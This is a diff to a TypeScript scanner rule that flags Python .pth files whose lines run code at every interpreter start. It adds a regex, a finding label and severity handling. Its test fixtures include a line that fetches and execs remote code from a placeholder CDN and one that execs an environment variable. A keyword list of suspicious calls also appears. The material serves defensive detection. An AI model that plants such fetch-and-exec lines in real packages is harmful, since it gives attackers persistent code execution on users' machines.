@@ -5,6 +5,8 @@ const PATH_LINE = /^import[ \t][^\n]{1,2000}/;
 /** Path files of editable installs and of namespaces do this and nothing else. */
 const USUAL_LINE =
   /^import (?:__editable___\w+_finder; ?__editable___\w+_finder\.install\(\)|sys, ?types, ?os; ?has_mfs|_virtualenv|distutils-precedence|os; ?var = 'SETUPTOOLS_USE_DISTUTILS'|coverage|a1_coverage|pywin32_bootstrap|_\w+\s*$)/;
+/** Runs a text that stands written out, which is how several statements fit on one line. */
+const WRITTEN_OUT = /\bexec\((?=(["'])[^\n]{1,1500}\1\)\s*$)/;
 const ACTS =
   /\bexec\b|\beval\b|\bsystem\b|\bpopen\b|\bsubprocess\b|\burl|\brequests\b|\bbase64\b|\bsocket\b|\bcompile\b|__import__/;
 
@@ -30,6 +32,7 @@ export const check: FileCheck = {
       'environment-sent',
       'system-facts-sent',
       'secret-file-sent',
+      'file-sent',
       'disguised-call',
       'shady-contact',
       'install-contact',
@@ -48,6 +51,10 @@ export const check: FileCheck = {
       },
       { 'pkg/__init__.py': 'import requests\n«exec(requests.get("https://cdn.example.net/p").text)»\n' },
       { 'x.pth': '«import os; exec(os.environ.get("X", ""))»\n' },
+      {
+        'trace.pth':
+          '«import sys; exec("import os\\nif os.getenv(\'TRACE\'):\\n import trace_it\\n trace_it.start()")»\n',
+      },
     ],
     good: [
       { 'setup.py': 'from setuptools import setup\nsetup(name="x", packages=["x"])\n' },
@@ -70,7 +77,12 @@ export const check: FileCheck = {
     if (!file.path.toLowerCase().endsWith('.pth')) return;
     for (const { start, text } of file.lines) {
       if (!PATH_LINE.test(text) || USUAL_LINE.test(text) || !ACTS.test(text)) continue;
-      yield { at: file.span(start, start + text.trimEnd().length), message: 'Python runs this line at every start.' };
+      const isStart = !ACTS.test(text.replace(WRITTEN_OUT, '(')) && /\bimport (?!os\b|sys\b)\w/.test(text);
+      yield {
+        at: file.span(start, start + text.trimEnd().length),
+        message: `Python runs this line at every start${isStart ? '; it calls a module that everybody can read' : ''}.`,
+        ...(isStart && { severity: 'low', confidence: 'medium' }),
+      };
     }
   },
 };
